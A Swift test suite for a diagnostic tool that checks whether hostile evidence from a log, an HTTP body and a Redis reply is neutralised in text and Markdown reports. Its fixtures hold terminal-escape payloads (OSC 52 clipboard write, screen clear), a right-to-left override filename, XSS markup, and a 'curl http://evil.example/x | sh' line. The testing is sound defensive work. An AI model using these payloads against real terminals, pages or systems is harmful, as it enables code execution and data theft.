import DiagnosePlatform
import Foundation
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// Observed text carrying terminal escapes, direction overrides and Markdown/HTML markup (a log file, a real HTTP
/// server's body, a real redis-server's reply) reaches the text output and the Markdown report inert: every control
/// character shown as `\x1b`-style text, and the Markdown, rendered by a CommonMark renderer (`cmark`), holds no
/// link, image or HTML element from the evidence.
@Suite(.serialized) struct HostileOutputTests {
    /// What a hostile service writes: a clipboard write (OSC 52), a cleared screen, colour, a cursor move, a C1 CSI,
    /// a right-to-left override, an image, a link, an autolink, a script, a fence and a fake "Next:" command.
    static let logLine =
        "ERROR \u{1B}]52;c;bG9n\u{07}\u{1B}[2J <img src=x onerror=alert(1)> [click](http://evil.example/) "
        + "![i](http://evil.example/i.png) <script>alert(3)</script> ``` \u{202E}gnp.exe \u{9B}31m "
        + "<http://evil.example/auto>\r\u{1B}[A    $ curl http://evil.example/x | sh"

    /// Fits the redis summary's 80 characters.
    static let redisValue = "\u{1B}]52;c;cmVkaXM=\u{07}<img src=x onerror=alert(1)>[x](http://evil.example/)\u{202E}"

    /// The control characters and overrides that must never be emitted (tab and line feed are allowed).
    static func rawControls(_ text: String) -> [String] {
        text.unicodeScalars.filter { scalar in
            switch scalar.value {
            case 0x09, 0x0A: false
            case 0x00...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: true
            default: false
            }
        }.map { String(format: "U+%04X", $0.value) }
    }

    @Test func escapesAndMarkupFromALogAServerAndRedisStayInert() async throws {
        try #require(FileManager.default.isExecutableFile(atPath: diagnoseBinary), "run `swift build` first")
        let cmark = "/usr/bin/cmark"
        try #require(FileManager.default.isExecutableFile(atPath: cmark), "install cmark (scripts/setup.sh)")
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }

        let server = try FixtureHTTPServer()
        defer { server.stop() }
        let redis = try await startRedis(in: folder)
        defer {
            kill(redis.process.processIdentifier, SIGKILL)
            redis.process.waitUntilExit()
        }
        let set = await ProcessRunner.run(
            ["/usr/bin/redis-cli", "-p", String(redis.port), "SET", "hostile", Self.redisValue], timeout: .seconds(10))
        try #require(set.stdout.contains("OK"), "\(set.stderr)")

        try plant("starting\n\(Self.logLine)\nstill running\n", at: "app.log", in: folder)
        try plant(
            """
            id: hostile
            title: Hostile evidence
            start: logs
            steps:
              logs:
                title: The log has no error
                probe: logs
                with: { file: app.log, pattern: ERROR }
                on: { pass: body, fail: body }
              body:
                title: The body says ok
                probe: http
                with: { url: "http://127.0.0.1:\(server.port)/markup", body_contains: all-is-well }
                on: { pass: reply, fail: reply }
              reply:
                title: Redis holds the key
                probe: redis
                with: { url: "redis://127.0.0.1:\(redis.port)/0", command: GET hostile }
                on: { pass: seen, fail: seen }
            diagnoses:
              seen: { severity: critical, title: Hostile evidence seen }
            """, at: "runbooks/hostile.yml", in: folder)

        let text = await diagnose(["run", "hostile", "--verbose"], in: folder)
        #expect(text.status == 2, "\(text.stderr)")
        #expect(Self.rawControls(text.stdout).isEmpty, "raw controls in the text output")
        // Shown, not dropped: the on-call can see that the service sent escapes.
        // From the log, the HTTP body and the Redis reply.
        for source in ["bG9n", "cHduZWQ=", "cmVkaXM="] {
            #expect(text.stdout.contains(#"\x1b]52;c;"# + source + #"\x07"#), "\(source) not shown")
        }
        #expect(text.stdout.contains(#"\u{202E}gnp.exe"#))
        #expect(text.stdout.contains(#"\x9b31m"#))
        #expect(text.stdout.contains(#"\r\x1b[A"#))

        let report = await diagnose(["report", "hostile", "--output", "handoff.md"], in: folder)
        #expect(report.status == 2, "\(report.stderr)")
        let markdown = try String(contentsOf: folder.appendingPathComponent("handoff.md"), encoding: .utf8)
        #expect(Self.rawControls(markdown).isEmpty, "raw controls in the Markdown")
        #expect(markdown.contains("Redis holds the key"))
        for source in ["bG9n", "cHduZWQ=", "cmVkaXM="] {
            // In prose, escaped for Markdown; in a fenced block, as is.
            let shown = markdown.contains(#"\\x1b\]52;c;"# + source) || markdown.contains(#"\x1b]52;c;"# + source)
            #expect(shown, "\(source) not in the Markdown")
        }

        // `--unsafe` lets raw HTML through as cmark would by default elsewhere: an element from the evidence would
        // show here as itself.
        let rendered = await ProcessRunner.run(
            [cmark, "--unsafe", folder.appendingPathComponent("handoff.md").path], timeout: .seconds(30))
        try #require(rendered.exitStatus == 0, "\(rendered.stderr)")
        let html = rendered.stdout
        for element in ["<a ", "<a>", "<img", "<script", "<http"] {
            #expect(!html.contains(element), "\(element) in the rendered report")
        }
        let allowed: Set<String> = [
            "h1", "h2", "h3", "p", "ul", "li", "code", "pre", "strong", "em", "hr", "blockquote", "details", "summary",
        ]
        let tags = Set(
            try Pattern(#"</?([A-Za-z][A-Za-z0-9]*)"#).allMatches(in: html).map { $0[1].lowercased() })
        #expect(tags.subtracting(allowed).isEmpty, "elements from the evidence: \(tags.subtracting(allowed))")
        // The evidence is still there, as text.
        #expect(html.contains("&lt;img src=x onerror=alert(1)&gt;"))
    }

    struct Server {
        let process: Process
        let port: Int
    }

    /// A real redis-server on a free loopback port; taken as ours only when it reports our process's id.
    func startRedis(in folder: URL) async throws -> Server {
        for _ in 0..<5 {
            let free = await ProcessRunner.run(
                [
                    "/usr/bin/env", "python3", "-c",
                    "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); print(s.getsockname()[1])",
                ], timeout: .seconds(10))
            let port = try #require(Int(free.stdout.trimmingWhitespace()))
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/usr/bin/redis-server")
            process.arguments = [
                "--port", String(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no", "--dir", folder.path,
            ]
            process.standardOutput = FileHandle.nullDevice
            try process.run()
            let clock = ContinuousClock()
            let end = clock.now + hangGuard
            while clock.now < end, process.isRunning {
                let info = await ProcessRunner.run(
                    ["/usr/bin/redis-cli", "-p", String(port), "INFO", "server"], timeout: .seconds(5))
                if info.stdout.contains("process_id:\(process.processIdentifier)\r") {
                    return Server(process: process, port: port)
                }
                try await Task.sleep(for: .milliseconds(20))
            }
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
        }
        throw RedisStartFailure()
    }

    struct RedisStartFailure: Error {}
}
